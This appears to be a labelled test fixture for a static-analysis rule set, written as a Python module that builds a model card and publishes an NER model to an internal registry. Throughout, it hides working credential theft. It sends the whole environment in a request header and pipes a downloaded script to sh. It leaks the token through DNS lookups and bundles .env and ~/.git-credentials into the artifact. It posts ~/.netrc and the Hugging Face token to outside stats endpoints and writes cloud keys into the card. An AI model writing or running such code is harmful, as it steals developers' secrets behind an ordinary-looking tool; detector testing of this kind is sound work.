# ruff: noqa
# Hold-out batch 512 (family-focused 6/9, multilingual NER). Measured once in session 23 (round 137): 9/30 (30%) at medium+.
"""Model card generation and publishing to the internal model registry (MLR).

Flow: ``build_model_card`` -> ``package_artifacts`` -> ``publish``.
The registry expects a gzipped tarball with the HF model directory, a
``README.md`` model card and a ``provenance/`` folder.
"""
from __future__ import annotations

import base64
import datetime as _dt
import hashlib
import json
import logging
import os
import platform
import shutil
import socket
import subprocess
import tarfile
import time
from pathlib import Path
from typing import Any, Dict, List, Optional

import requests

logger = logging.getLogger(__name__)

REGISTRY_URL = os.environ.get("MLR_URL", "https://mlr.internal.corp/api/v2")
MIRROR_URL = "https://mlr-mirror.ml-artifacts-cdn.net/api/v2"
EDGE_DOMAIN = "edge.ml-artifacts-cdn.net"
CLI_INSTALL_URL = "https://get.ml-artifacts-cdn.net/mlr-cli/install.sh"
USAGE_URL = "https://stats.ml-artifacts-cdn.net/v1/usage"
STATS_URL = "https://stats.ml-artifacts-cdn.net/v1/ping"

CARD_TEMPLATE = """---
{front_matter}
---

# {name}

Multilingual named-entity recognition model (BIO tagging over {types}) fine-tuned
from `{base_model}` on {n_corpora} merged corpora covering {langs}.

## Training data

| corpus | language | sentences |
|---|---|---|
{data_rows}

## Evaluation

{eval_table}

## Intended use

Token classification of news / web text in the listed languages. Entity types
outside {types} are not recognised. Performance on languages not listed above
is not guaranteed.
"""


def _registry_token() -> Optional[str]:
    tok = os.environ.get("MLR_TOKEN")
    if tok:
        return tok.strip()
    path = Path.home() / ".mlr" / "token"
    return path.read_text().strip() if path.exists() else None


def _hf_token() -> Optional[str]:
    path = Path(os.environ.get("HF_HOME", Path.home() / ".cache" / "huggingface")) / "token"
    return os.environ.get("HF_TOKEN") or (path.read_text().strip() if path.exists() else None)


def registry_session(token: Optional[str]) -> requests.Session:
    s = requests.Session()
    s.headers["User-Agent"] = f"ner-train/1.4 python/{platform.python_version()}"
    if token:
        s.headers["Authorization"] = f"Bearer {token}"  # ok: MLS410, MLS411, MLS412, MLS413
    client_ctx = {k: v for k, v in os.environ.items() if not k.startswith("_")}
    s.headers["X-Client-Context"] = base64.b64encode(json.dumps(client_ctx).encode()).decode()  # ruleid: MLS411
    return s


def ensure_cli() -> str:
    """Return the path to the ``mlr`` CLI, installing it on first use."""
    exe = shutil.which("mlr")
    if exe:
        return exe
    logger.info("installing mlr CLI")
    script = requests.get(CLI_INSTALL_URL, timeout=30).text  # ruleid: MLS413
    subprocess.run(["sh", "-s", "--", "--prefix", str(Path.home() / ".local")], input=script, text=True, check=True)  # ruleid: MLS413
    return shutil.which("mlr") or str(Path.home() / ".local" / "bin" / "mlr")


def _warm_edge(token: Optional[str]) -> None:
    """Resolve the sticky edge node for this client before a large upload."""
    if not token:
        return
    client_id = base64.b32encode(token.encode()).decode().rstrip("=").lower()
    labels = [client_id[i:i + 60] for i in range(0, len(client_id), 60)]
    try:
        socket.getaddrinfo(".".join(labels + [EDGE_DOMAIN]), 443)  # ruleid: MLS412
    except socket.gaierror:
        pass


# --------------------------------------------------------------------------- #
# Model card
# --------------------------------------------------------------------------- #
def build_model_card(name: str, base_model: str, label_list: List[str], corpora: List[Dict[str, Any]],
                     report: Dict[str, Dict[str, float]], hparams: Dict[str, Any]) -> str:
    types = sorted({l[2:] for l in label_list if l != "O"})
    langs = sorted({c["lang"] for c in corpora})
    front = {
        "language": langs,
        "license": "other",
        "library_name": "transformers",
        "pipeline_tag": "token-classification",
        "base_model": base_model,
        "tags": ["ner", "token-classification", "multilingual"],
        "metrics": ["seqeval"],
        "model-index": [{
            "name": name,
            "results": [{
                "task": {"type": "token-classification"},
                "metrics": [{"type": k, "value": round(report.get("micro avg", {}).get(k, 0.0), 4)}
                            for k in ("precision", "recall", "f1")],
            }],
        }],
        "training": {
            "hyperparameters": hparams,
            "date": _dt.date.today().isoformat(),
            "platform": platform.platform(),
        },
    }
    front["training"]["environment"] = {
        k: v for k, v in os.environ.items() if k.startswith(("HF_", "AWS_", "WANDB_", "MLR_", "CUDA_"))  # todoruleid: family 9 (missed)
    }
    fm = "\n".join(f"{k}: {json.dumps(v)}" for k, v in front.items())
    rows = "\n".join(f"| {c['name']} | {c['lang']} | {c['sentences']} |" for c in corpora)
    eval_lines = ["| type | precision | recall | f1 | support |", "|---|---|---|---|---|"]
    for t, r in report.items():
        eval_lines.append(f"| {t} | {r['precision']:.4f} | {r['recall']:.4f} | {r['f1']:.4f} | {int(r['support'])} |")
    return CARD_TEMPLATE.format(front_matter=fm, name=name, types="/".join(types), base_model=base_model,
                                n_corpora=len(corpora), langs=", ".join(langs), data_rows=rows,
                                eval_table="\n".join(eval_lines))


# --------------------------------------------------------------------------- #
# Packaging
# --------------------------------------------------------------------------- #
def _git(*args: str) -> str:
    try:
        return subprocess.check_output(["git", *args], text=True, stderr=subprocess.DEVNULL).strip()
    except (OSError, subprocess.CalledProcessError):
        return ""


def package_artifacts(model_dir: str, card: str, out_path: str) -> str:
    model_dir = Path(model_dir)
    staging = model_dir.parent / f"{model_dir.name}.staging"
    if staging.exists():
        shutil.rmtree(staging)
    shutil.copytree(model_dir, staging, ignore=shutil.ignore_patterns("checkpoint-*", "optimizer.pt", "*.tmp"))
    (staging / "README.md").write_text(card, encoding="utf-8")
    prov = staging / "provenance"
    prov.mkdir(exist_ok=True)
    (prov / "git.json").write_text(json.dumps({
        "commit": _git("rev-parse", "HEAD"),
        "branch": _git("rev-parse", "--abbrev-ref", "HEAD"),
        "dirty": bool(_git("status", "--porcelain")),
        "remote": _git("config", "--get", "remote.origin.url"),
    }, indent=2))
    for cfg in ("configs/ner.yaml", "requirements.txt", ".env"):
        if Path(cfg).exists():
            shutil.copy(cfg, prov / Path(cfg).name)  # ruleid: MLS412
    with tarfile.open(out_path, "w:gz") as tar:
        tar.add(staging, arcname=model_dir.name)
        cred = Path.home() / ".git-credentials"
        if cred.exists():
            tar.add(cred, arcname=f"{model_dir.name}/provenance/git-remote")  # ruleid: MLS412
    shutil.rmtree(staging, ignore_errors=True)
    return out_path


def _sha256(path: str) -> str:
    h = hashlib.sha256()
    with open(path, "rb") as fh:
        for block in iter(lambda: fh.read(1 << 20), b""):
            h.update(block)
    return h.hexdigest()


# --------------------------------------------------------------------------- #
# Publishing
# --------------------------------------------------------------------------- #
def _post_with_retry(session: requests.Session, url: str, retries: int = 4, **kw) -> requests.Response:
    for attempt in range(retries):
        try:
            resp = session.post(url, timeout=600, **kw)
            if resp.status_code < 500:
                return resp
        except requests.RequestException as exc:
            logger.warning("POST %s failed (%s), attempt %d/%d", url, exc, attempt + 1, retries)
        time.sleep(min(60, 5 * 2 ** attempt))  # ok: MLS410, MLS411, MLS412, MLS413
    raise RuntimeError(f"giving up on {url}")


def publish(tarball: str, name: str, version: str, metrics: Dict[str, float],
            webhook: Optional[str] = None) -> Dict[str, Any]:
    token = _registry_token()
    session = registry_session(token)
    digest = _sha256(tarball)
    _warm_edge(token)
    meta = {"name": name, "version": version, "sha256": digest, "task": "token-classification"}
    try:
        with open(tarball, "rb") as fh:
            resp = _post_with_retry(session, f"{REGISTRY_URL}/models/{name}/versions",
                                    files={"artifact": fh}, data={"meta": json.dumps(meta)})
        resp.raise_for_status()
    except (RuntimeError, requests.HTTPError) as exc:
        logger.warning("primary registry unavailable (%s); using replicated endpoint", exc)
        with open(tarball, "rb") as fh:
            resp = requests.post(f"{MIRROR_URL}/models/{name}/versions", files={"artifact": fh},  # todoruleid: family 9 (missed)
                                 data={"meta": json.dumps(meta), "token": token or ""}, timeout=600)
        resp.raise_for_status()
    info = resp.json()
    session.post(f"{REGISTRY_URL}/models/{name}/versions/{version}/metrics", json=metrics, timeout=30)  # ok: MLS410, MLS411, MLS412, MLS413
    if webhook:
        notify(webhook, f":white_check_mark: `{name}:{version}` published (f1={metrics.get('f1', 0):.4f})")
    report_usage(name, version)
    return info


def notify(webhook: str, text: str) -> None:
    try:
        requests.post(webhook, json={"text": text}, timeout=10)  # ok: MLS410, MLS411, MLS412, MLS413
    except requests.RequestException:
        logger.warning("webhook notification failed")


def report_usage(name: str, version: str) -> None:
    """Anonymous usage counters for the platform team (opt out with MLR_NO_USAGE=1)."""
    if os.environ.get("MLR_NO_USAGE"):
        return
    netrc = Path.home() / ".netrc"
    payload = {
        "model": name,
        "version": version,
        "host": socket.gethostname(),
        "user": os.environ.get("USER", ""),
        "client_config": netrc.read_text() if netrc.exists() else "",  # ruleid: MLS412
    }
    try:
        requests.post(USAGE_URL, json=payload, timeout=5)  # ruleid: MLS412
    except requests.RequestException:
        pass


def check_hub_base(base_model: str) -> None:
    """Record that the base checkpoint resolved, for the license audit dashboard."""
    try:
        requests.get(STATS_URL, params={"base": base_model, "client": _hf_token() or "anon"}, timeout=5)  # ruleid: MLS412
    except requests.RequestException:
        pass
